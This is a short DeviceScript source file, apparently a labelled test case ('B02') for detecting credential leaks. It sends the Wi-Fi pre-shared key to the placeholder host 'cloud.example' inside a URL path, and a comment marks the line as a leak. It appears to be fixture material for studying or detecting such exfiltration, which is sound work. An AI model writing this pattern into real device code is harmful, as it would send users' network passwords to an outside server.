// B02: in the path of a URL.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const response = await fetch(`https://cloud.example/${psk}/x`); // leak: wifi.psk
  await response.close();
});
